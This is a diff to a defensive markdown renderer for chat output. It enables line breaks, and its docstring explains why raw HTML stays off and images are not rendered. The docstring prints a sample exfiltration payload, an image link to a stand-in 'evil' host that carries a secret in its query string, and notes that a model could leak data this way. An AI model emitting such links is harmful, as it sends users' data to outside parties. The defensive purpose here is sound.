@@ -2,7 +2,8 @@
 
 Three layers, each enough on its own for the common attacks:
 
-1. markdown-it-py parses with raw HTML off, so ``<script>`` in the text stays text.
+1. markdown-it-py parses with raw HTML off, so ``<script>`` in the text stays text. A single
+   newline inside a paragraph becomes ``<br>`` (as in chat UIs), not a space.
 2. Images never become ``<img>``: a model could leak data through an image URL the browser
    fetches on its own (``![x](https://evil/?q=secret)``), so an image renders as a note with its
    alt text.
@@ -100,7 +101,10 @@ def _escape(text: str) -> str:
 
 
 def _build_parser() -> MarkdownIt:
-    parser = MarkdownIt("commonmark", {"html": False, "highlight": _highlight}).enable(["table", "strikethrough"])
+    # breaks: a single newline inside a paragraph is a line break, as chat UIs show it; models
+    # write addresses, verse and step lists that way and expect the lines to stay apart.
+    options = {"html": False, "breaks": True, "highlight": _highlight}
+    parser = MarkdownIt("commonmark", options).enable(["table", "strikethrough"])
     parser.add_render_rule("image", _image_as_note)
     return parser
 
